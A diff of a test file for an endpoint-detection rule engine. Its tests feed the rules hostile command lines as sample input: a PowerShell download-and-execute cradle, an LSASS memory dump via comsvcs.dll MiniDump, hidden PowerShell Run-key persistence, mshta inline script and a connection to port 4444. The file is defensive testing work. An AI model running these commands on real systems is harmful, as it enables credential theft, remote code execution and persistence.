@@ -5,6 +5,7 @@ import {
   ENCODED_COMMAND,
   PROCSRV_IMAGE,
   RUN_KEY,
+  RUN_KEY_POWERSHELL,
   benignDnsAlert,
   encodedPowerShellAlert,
   lsassAccessAlert,
@@ -81,28 +82,50 @@ describe('masquerading-name', () => {
 
   it('fires on a Windows-named Run value that hands an inline script to PowerShell', () => {
     const alert = runValueAlert('Windows Defender Helper', 'powershell -w hidden -c "iex $env:x"');
-    expect(evidenceOf('masquerading-name', alert)).toBe('Windows Defender Helper → powershell -w hidden -c "iex $env:x"');
+    expect(evidenceOf('masquerading-name', alert)).toBe(
+      'Windows Defender Helper → powershell -w hidden -c "iex $env:x"',
+    );
   });
 
   it('fires on svchost.exe outside the Windows directory, not inside it', () => {
     expect(evidenceOf('masquerading-name', processAlert('C:\\Users\\Public\\svchost.exe', 'svchost'))).toBe(
       'C:\\Users\\Public\\svchost.exe',
     );
-    expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\System32\\svchost.exe', 'svchost -k'))).toBeUndefined();
+    expect(
+      evidenceOf('masquerading-name', processAlert('C:\\Windows\\System32\\svchost.exe', 'svchost -k')),
+    ).toBeUndefined();
   });
 
   it('fires on a misspelt system process name', () => {
     expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\System32\\scvhost.exe', 'x'))).toBe(
       'C:\\Windows\\System32\\scvhost.exe',
     );
-    expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\lsasss.exe', 'x'))).toBe('C:\\Windows\\lsasss.exe');
+    expect(evidenceOf('masquerading-name', processAlert('C:\\Windows\\lsasss.exe', 'x'))).toBe(
+      'C:\\Windows\\lsasss.exe',
+    );
+  });
+
+  it('does not fire on Microsoft’s own per-user installs in AppData', () => {
+    const sharepoint = processAlert(
+      'C:\\Users\\jw\\AppData\\Local\\Microsoft\\OneDrive\\24.1.0\\Microsoft.SharePoint.exe',
+      'Microsoft.SharePoint.exe',
+    );
+    expect(evidenceOf('masquerading-name', sharepoint)).toBeUndefined();
+    expect(evidenceOf('unusual-path', sharepoint)).toBeUndefined();
+    const fake = processAlert('C:\\Users\\jw\\AppData\\Roaming\\Microsoft.SharePoint.exe', 'x');
+    expect(evidenceOf('masquerading-name', fake)).toBe('C:\\Users\\jw\\AppData\\Roaming\\Microsoft.SharePoint.exe');
   });
 
   it('fires on a Windows-named task running from AppData, not on Windows’ own task', () => {
-    const fake = makeAlert({ task: { name: '\\WindowsUpdateCheck', action: 'C:\\Users\\q\\AppData\\Roaming\\wu.exe' } });
+    const fake = makeAlert({
+      task: { name: '\\WindowsUpdateCheck', action: 'C:\\Users\\q\\AppData\\Roaming\\wu.exe' },
+    });
     expect(evidenceOf('masquerading-name', fake)).toBe('\\WindowsUpdateCheck → C:\\Users\\q\\AppData\\Roaming\\wu.exe');
     const real = makeAlert({
-      task: { name: '\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start', action: 'C:\\Windows\\system32\\sc.exe start wuauserv' },
+      task: {
+        name: '\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start',
+        action: 'C:\\Windows\\system32\\sc.exe start wuauserv',
+      },
     });
     expect(evidenceOf('masquerading-name', real)).toBeUndefined();
   });
@@ -114,7 +137,10 @@ describe('lolbin-proxy-execution', () => {
   });
 
   it('does not fire on a bare DLL name, which loads from System32', () => {
-    const alert = processAlert('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl');
+    const alert = processAlert(
+      'C:\\Windows\\System32\\rundll32.exe',
+      'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
+    );
     expect(evidenceOf('lolbin-proxy-execution', alert)).toBeUndefined();
   });
 
@@ -127,7 +153,10 @@ describe('lolbin-proxy-execution', () => {
   });
 
   it('fires on mshta running inline script', () => {
-    const alert = processAlert('C:\\Windows\\System32\\mshta.exe', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"")")');
+    const alert = processAlert(
+      'C:\\Windows\\System32\\mshta.exe',
+      'mshta vbscript:Execute("CreateObject(""WScript.Shell"")")',
+    );
     expect(evidenceOf('lolbin-proxy-execution', alert)).toBe('mshta vbscript:');
   });
 
@@ -136,7 +165,9 @@ describe('lolbin-proxy-execution', () => {
       'C:\\Windows\\System32\\rundll32.exe',
       'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 680 C:\\Users\\Public\\l.dmp full',
     );
-    expect(evidenceOf('lolbin-proxy-execution', alert)).toBe('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump');
+    expect(evidenceOf('lolbin-proxy-execution', alert)).toBe(
+      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump',
+    );
   });
 
   it('fires on certutil downloading and on msiexec installing from a user folder', () => {
@@ -161,6 +192,8 @@ describe('unusual-path', () => {
   it('fires on an executable dropped in Temp', () => {
     const alert = makeAlert({ eventType: 'file_create', file: { path: 'C:\\Users\\jw\\AppData\\Local\\Temp\\a.exe' } });
     expect(evidenceOf('unusual-path', alert)).toBe('C:\\Users\\jw\\AppData\\Local\\Temp\\a.exe');
+    const windowsTemp = makeAlert({ eventType: 'file_create', file: { path: 'C:\\Windows\\Temp\\svc.dll' } });
+    expect(evidenceOf('unusual-path', windowsTemp)).toBe('C:\\Windows\\Temp\\svc.dll');
   });
 
   it('does not flag an unknown binary in System32 by its path alone', () => {
@@ -172,6 +205,11 @@ describe('unusual-path', () => {
       'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2009.7-0\\MsMpEng.exe',
       'MsMpEng.exe',
     );
+    expect(evidenceOf('unusual-path', alert)).toBeUndefined();
+  });
+
+  it('does not flag a temp folder inside Program Files', () => {
+    const alert = processAlert('C:\\Program Files\\temp\\MsSense.exe', 'MsSense.exe');
     expect(evidenceOf('unusual-path', alert)).toBeUndefined();
   });
 
@@ -198,7 +236,10 @@ describe('powershell-evasion', () => {
     expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell -ep bypass -File C:\\x.ps1'))).toBe(
       '-ep bypass',
     );
-    const cradle = processAlert(POWERSHELL, 'powershell "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example.com/x\')"');
+    const cradle = processAlert(
+      POWERSHELL,
+      'powershell "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example.com/x\')"',
+    );
     expect(evidenceOf('powershell-evasion', cradle)).toBe('IEX');
   });
 
@@ -210,13 +251,21 @@ describe('powershell-evasion', () => {
   });
 
   it('finds PowerShell launched from a Run value', () => {
-    const alert = runValueAlert('Updater', 'powershell.exe -windowstyle hidden -file C:\\Users\\Public\\u.ps1', 'C:\\Windows\\regedit.exe');
+    const alert = runValueAlert(
+      'Updater',
+      'powershell.exe -windowstyle hidden -file C:\\Users\\Public\\u.ps1',
+      'C:\\Windows\\regedit.exe',
+    );
     expect(evidenceOf('powershell-evasion', alert)).toBe('-windowstyle hidden');
   });
 
   it('does not fire on -NoProfile alone or on a normal window', () => {
-    expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell.exe -NoProfile -File C:\\s\\b.ps1'))).toBeUndefined();
-    expect(evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell -WindowStyle Normal'))).toBeUndefined();
+    expect(
+      evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell.exe -NoProfile -File C:\\s\\b.ps1')),
+    ).toBeUndefined();
+    expect(
+      evidenceOf('powershell-evasion', processAlert(POWERSHELL, 'powershell -WindowStyle Normal')),
+    ).toBeUndefined();
   });
 
   it('does not fire on another program’s -w hidden', () => {
@@ -230,9 +279,15 @@ describe('office-spawns-shell', () => {
   });
 
   it('does not fire on Word starting its print helper, or on Explorer starting PowerShell', () => {
-    const print = processAlert('C:\\Windows\\splwow64.exe', 'splwow64 8192', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
+    const print = processAlert(
+      'C:\\Windows\\splwow64.exe',
+      'splwow64 8192',
+      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+    );
     expect(evidenceOf('office-spawns-shell', print)).toBeUndefined();
-    expect(evidenceOf('office-spawns-shell', processAlert(POWERSHELL, 'powershell', 'C:\\Windows\\explorer.exe'))).toBeUndefined();
+    expect(
+      evidenceOf('office-spawns-shell', processAlert(POWERSHELL, 'powershell', 'C:\\Windows\\explorer.exe')),
+    ).toBeUndefined();
   });
 });
 
@@ -256,12 +311,27 @@ describe('autostart-by-nonsystem-process', () => {
   });
 
   it('does not fire when a Windows service or Windows Installer writes the Run key', () => {
-    expect(evidenceOf('autostart-by-nonsystem-process', runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\svchost.exe'))).toBeUndefined();
-    expect(evidenceOf('autostart-by-nonsystem-process', runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\msiexec.exe'))).toBeUndefined();
+    expect(
+      evidenceOf(
+        'autostart-by-nonsystem-process',
+        runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\svchost.exe'),
+      ),
+    ).toBeUndefined();
+    expect(
+      evidenceOf(
+        'autostart-by-nonsystem-process',
+        runValueAlert('A', 'C:\\x.exe', 'C:\\Windows\\System32\\msiexec.exe'),
+      ),
+    ).toBeUndefined();
   });
 
   it('does not fire on PowerShell writing a key that starts nothing', () => {
-    const alert = runValueAlert('Blob', 'Binary Data', POWERSHELL, 'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates');
+    const alert = runValueAlert(
+      'Blob',
+      'Binary Data',
+      POWERSHELL,
+      'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates',
+    );
     expect(evidenceOf('autostart-by-nonsystem-process', alert)).toBeUndefined();
   });
 
@@ -275,8 +345,13 @@ describe('autostart-by-nonsystem-process', () => {
   });
 
   it('fires on schtasks /create and on a script host writing to the Startup folder', () => {
-    const schtasks = processAlert('C:\\Windows\\System32\\schtasks.exe', 'schtasks.exe /Create /SC DAILY /TN Updater /TR "c:\\x.exe"');
-    expect(evidenceOf('autostart-by-nonsystem-process', schtasks)).toBe('schtasks.exe: schtasks.exe /Create');
+    const schtasks = processAlert(
+      'C:\\Windows\\System32\\schtasks.exe',
+      'schtasks.exe /Create /SC DAILY /TN Updater /TR "c:\\x.exe"',
+    );
+    expect(evidenceOf('autostart-by-nonsystem-process', schtasks)).toBe(
+      'schtasks.exe: schtasks.exe /Create /SC DAILY /TN Updater /TR "c:\\x.exe"',
+    );
     const startup = makeAlert({
       eventType: 'file_create',
       process: { image: 'C:\\Windows\\System32\\wscript.exe' },
@@ -288,10 +363,9 @@ describe('autostart-by-nonsystem-process', () => {
   });
 
   it('fires on the PowerShell process that creates the Run value, before the registry event', () => {
-    const alert = processAlert(POWERSHELL, runKeyAlert().process?.commandLine ?? '', 'C:\\Windows\\explorer.exe');
-    expect(evidenceOf('autostart-by-nonsystem-process', alert)).toMatch(
-      /^powershell\.exe: New-ItemProperty -Path HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run$/,
-    );
+    const alert = processAlert(POWERSHELL, RUN_KEY_POWERSHELL, 'C:\\Windows\\explorer.exe');
+    const found = evidenceOf('autostart-by-nonsystem-process', alert);
+    expect(found).toBe(`powershell.exe: ${RUN_KEY_POWERSHELL.slice(0, 223)}…`);
   });
 });
 
@@ -323,7 +397,9 @@ describe('lsass-access', () => {
   });
 
   it('does not fire on access to another process', () => {
-    const alert = lsassAccessAlert('0x1fffff', { target: { image: 'C:\\Windows\\notepad.exe', grantedAccess: '0x1fffff' } });
+    const alert = lsassAccessAlert('0x1fffff', {
+      target: { image: 'C:\\Windows\\notepad.exe', grantedAccess: '0x1fffff' },
+    });
     expect(evidenceOf('lsass-access', alert)).toBeUndefined();
   });
 });
@@ -341,7 +417,9 @@ describe('bidi-override-name', () => {
   });
 
   it('does not fire on an ordinary name', () => {
-    expect(evidenceOf('bidi-override-name', makeAlert({ file: { path: 'C:\\Users\\jw\\invoice.pdf' } }))).toBeUndefined();
+    expect(
+      evidenceOf('bidi-override-name', makeAlert({ file: { path: 'C:\\Users\\jw\\invoice.pdf' } })),
+    ).toBeUndefined();
   });
 });
 
@@ -361,7 +439,9 @@ describe('remote-thread', () => {
 
   it('does not fire on a thread in the same process, or from csrss', () => {
     expect(evidenceOf('remote-thread', injection({ target: { pid: 4000, image: POWERSHELL } }))).toBeUndefined();
-    expect(evidenceOf('remote-thread', injection({ process: { pid: 500, image: 'C:\\Windows\\System32\\csrss.exe' } }))).toBeUndefined();
+    expect(
+      evidenceOf('remote-thread', injection({ process: { pid: 500, image: 'C:\\Windows\\System32\\csrss.exe' } })),
+    ).toBeUndefined();
   });
 
   it('does not fire on a process access event', () => {
@@ -375,7 +455,10 @@ describe('public-connection-non-browser', () => {
   });
 
   it('fires on PowerShell connecting to 4444', () => {
-    const alert = procsrvConnectAlert({ process: { image: POWERSHELL }, network: { dstIp: '194.165.16.89', dstPort: 4444 } });
+    const alert = procsrvConnectAlert({
+      process: { image: POWERSHELL },
+      network: { dstIp: '194.165.16.89', dstPort: 4444 },
+    });
     expect(evidenceOf('public-connection-non-browser', alert)).toBe('powershell.exe → 194.165.16[.]89:4444');
   });
 
